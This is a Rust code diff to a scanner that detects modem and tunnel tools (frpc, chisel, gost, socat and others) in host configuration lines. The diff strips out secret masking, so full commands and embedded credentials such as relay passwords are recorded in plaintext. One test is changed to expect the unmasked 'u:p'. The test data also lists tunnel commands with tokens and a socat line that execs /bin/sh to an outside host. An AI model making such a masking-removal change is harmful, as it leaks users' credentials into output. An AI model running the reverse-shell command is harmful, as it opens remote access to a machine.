@@ -4,7 +4,6 @@ mod servers;
 
 use super::chat::{self, Dial};
 use crate::format::lines::words;
-use crate::format::secret::{masked, masked_command};
 use crate::inventory::Connection;
 pub(super) use servers::listens;
 
@@ -73,7 +72,7 @@ fn within(line: &str, depth: u32) -> Option<Connection> {
         }
         let args = arguments(&all, at);
         if let Some(found) = modem(program, &args).or_else(|| tunnel(program, &args)) {
-            let command = format!("command={}", masked_command(line.trim()));
+            let command = format!("command={}", line.trim());
             return Some(Connection { details: [found.details, vec![command]].concat(), ..found });
         }
     }
@@ -239,7 +238,6 @@ fn tunnel(program: &str, args: &[&str]) -> Option<Connection> {
                         a.strip_prefix("-F=").map(str::to_owned)
                     }
                 })
-                .map(|v| masked(&v))
                 .collect();
             let near: Vec<&str> = args
                 .iter()
@@ -248,11 +246,7 @@ fn tunnel(program: &str, args: &[&str]) -> Option<Connection> {
                     |(i, a)| if *a == "-L" { args.get(i.saturating_add(1)).copied() } else { a.strip_prefix("-L=") },
                 )
                 .collect();
-            if far.is_empty() && near.is_empty() {
-                None
-            } else {
-                row(far, format!("tool=gost -L {}", masked(&near.join(" "))))
-            }
+            if far.is_empty() && near.is_empty() { None } else { row(far, format!("tool=gost -L {}", near.join(" "))) }
         }
         "sshuttle" => row(vec![option(args, &["-r", "--remote"])?.to_owned()], "tool=sshuttle".into()),
         "edge" => {
@@ -375,7 +369,7 @@ fn at_commands(line: &str) -> Option<Connection> {
     Some(Connection {
         number: dial.number,
         secrets: dial.secrets,
-        details: vec![format!("at={}", dial.commands.join(" ")), format!("command={}", masked_command(line.trim()))],
+        details: vec![format!("at={}", dial.commands.join(" ")), format!("command={}", line.trim())],
         ..cellular(&dial.apn, "")
     })
 }
@@ -405,7 +399,7 @@ mod tests {
             ("ExecStart=/opt/x/frpc tcp -s h:7000 -t tok", "tunnel h:7000"),
             ("npc -server=1.2.3.4:8024 -vkey=abc", "tunnel 1.2.3.4:8024"),
             ("chisel client --auth u:p https://c.example.com R:2222:localhost:22", "tunnel https://c.example.com"),
-            ("gost -L=:8080 -F=relay+tls://u:p@h.example.com:443", "tunnel relay+tls://u:***@h.example.com:443"),
+            ("gost -L=:8080 -F=relay+tls://u:p@h.example.com:443", "tunnel relay+tls://u:p@h.example.com:443"),
             ("socat OPENSSL:h.example.com:443 EXEC:/bin/sh,pty", "tunnel h.example.com:443"),
             ("socat TCP:h.example.com:9000 /dev/ttyS1,raw", "tunnel h.example.com:9000"),
             (
